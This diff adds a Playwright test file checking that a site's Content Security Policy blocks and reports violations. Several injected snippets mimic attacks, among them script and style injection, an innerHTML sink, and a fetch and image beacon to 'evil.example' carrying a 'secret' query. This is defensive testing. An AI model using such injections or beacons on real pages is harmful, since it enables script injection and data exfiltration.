@@ -1,0 +1,96 @@
+import { ADDRESSES } from './support/routes.ts';
+import { expect, hydrated, test } from './support/test.ts';
+
+test('going through the site by its links breaks no policy', async ({ page, troubles }) => {
+  await page.goto('/');
+  await hydrated(page);
+  const header = page.getByRole('banner');
+  const footer = page.getByRole('contentinfo');
+  for (const name of ['Leaderboard', 'Selector', 'Blog', 'Home']) {
+    await header.getByRole('link', { name, exact: true }).first().click();
+    await hydrated(page);
+  }
+  for (const name of ['AI Agents Glossary', 'FAQs', 'About Us', 'Compare AI Agents']) {
+    await footer.getByRole('link', { name }).click();
+    await hydrated(page);
+  }
+  await page.goBack();
+  await hydrated(page);
+  expect(troubles.list).toEqual([]);
+});
+
+test('neither do toasts, tabs and menus', async ({ page, troubles }) => {
+  await page.goto('/agent/2');
+  await hydrated(page);
+  await page.getByRole('button', { name: /^Downvote/ }).click();
+  await expect(page.getByText('Vote recorded', { exact: true })).toBeVisible();
+  await page.getByRole('button', { name: /Write a Review/ }).click();
+  await expect(page.getByText('Review feature coming soon', { exact: true })).toBeVisible();
+  await page.getByRole('tab', { name: /^Reviews/ }).click();
+  await page.getByRole('banner').getByRole('button', { name: 'Theme' }).click();
+  await page.getByText('Dark', { exact: true }).click();
+  expect(troubles.list).toEqual([]);
+});
+
+test('neither does the palette', async ({ page, troubles }) => {
+  await page.goto('/');
+  await hydrated(page);
+  await page.keyboard.press('ControlOrMeta+k');
+  await page.getByRole('dialog').getByPlaceholder('Search AI agents...').fill('claude');
+  await expect(page.getByRole('option', { name: /Claude/ }).first()).toBeVisible();
+  await page.keyboard.press('Escape');
+  await expect(page.getByRole('dialog')).toBeHidden();
+  expect(troubles.list).toEqual([]);
+});
+
+test.describe('the policy stops', () => {
+  for (const [what, directive, attack] of [
+    ['HTML made from text', 'require-trusted-types-for', `document.body.innerHTML = '<b>x</b>'`],
+    [
+      'a permit to make HTML from text',
+      'trusted-types',
+      `trustedTypes.createPolicy('x', { createHTML: (text) => text })`,
+    ],
+    [
+      'a script made from text',
+      'require-trusted-types-for',
+      `document.head.append(Object.assign(document.createElement('script'), { textContent: 'x' }))`,
+    ],
+    // Later, because what the debugger itself runs may do this.
+    [
+      'code made from text',
+      'require-trusted-types-for',
+      `setTimeout(() => { try { Reflect.construct(Function, ['return 1']); } catch {} })`,
+    ],
+    [
+      'a style sheet in the page',
+      'style-src-elem',
+      `document.head.append(Object.assign(document.createElement('style'), { textContent: 'a{}' }))`,
+    ],
+    ['a call to another site', 'connect-src', `fetch('https://evil.example/').catch(() => {})`],
+    [
+      'a picture of another site',
+      'img-src',
+      `new Image().src = 'https://evil.example/pixel.png?secret'`,
+    ],
+  ] as const) {
+    test(`${what}, and the watch over every test sees it`, async ({ page, troubles }) => {
+      await page.goto('/faq');
+      await hydrated(page);
+      await page.evaluate(`try { ${attack} } catch {}`);
+      await expect
+        .poll(() => troubles.list.filter((text) => text.startsWith('policy: ')).join('\n'))
+        .toContain(`policy: ${directive}`);
+    });
+  }
+});
+
+test('every page has the same policy but for its own scripts', async ({ request }) => {
+  const policies = await Promise.all(
+    ADDRESSES.map(async ({ path }) => {
+      const headers = (await request.get(path)).headers();
+      return headers['content-security-policy']?.replaceAll(/'sha256-[^']+'/g, 'hash');
+    }),
+  );
+  expect(new Set(policies).size).toBe(1);
+});
